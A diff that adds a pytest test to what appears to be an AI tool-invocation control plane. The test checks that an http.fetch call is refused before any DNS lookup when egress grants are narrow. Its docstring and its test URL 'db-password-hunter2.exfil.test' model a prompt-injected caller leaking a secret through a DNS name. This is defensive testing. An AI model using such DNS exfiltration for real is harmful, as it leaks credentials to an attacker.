@@ -185,3 +185,34 @@ def test_a_charset_that_is_not_a_web_text_encoding_is_read_as_utf8(charset: str)
     assert time.monotonic() - started < 1
     assert kind == "text" and text == body.decode("utf-8")
     assert _decode("é".encode("iso-8859-2"), "text/plain", "ISO-8859-2") == ("é", "text")
+
+
+def test_a_name_outside_a_narrow_grant_is_never_looked_up(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A prompt-injected caller names ``<secret>.exfil.test``: under a grant of loopback
+    only (or of one port), no entry can admit it, so it is refused before any DNS question
+    leaves (a lookup is a message to the attacker's name server)."""
+    import packs.http_fetch as http_fetch
+    import packs.http_fetch.client as client
+    from control_plane.core.invoke import Invoker
+    from control_plane.core.reach import Grant, Grants, Reaches
+    from control_plane.runtime.plugins import load_registry
+
+    asked: list[str] = []
+
+    def spy(host: str, port: int) -> list[Any]:
+        asked.append(host)
+        return [ipaddress.ip_address("93.184.216.34")]
+
+    monkeypatch.setattr(client, "RESOLVER", spy)
+    load = load_registry(builtins=False, entry_points_=False, extra=[http_fetch])
+    for egress in ((), ("public:443",), ("api.test",), ("loopback:8080",)):
+        grants = Grants({"http.fetch": Grant(egress=egress)})
+        invoker = Invoker(load.registry, reaches=Reaches(grants, load.registry.declared_reach))
+        try:
+            outcome = invoker.invoke_sync(
+                "http.fetch", {"url": "http://db-password-hunter2.exfil.test/"}, timeout=10
+            )
+        finally:
+            invoker.close()
+        assert outcome.error is not None and outcome.error.code == "not_permitted", egress
+    assert asked == []
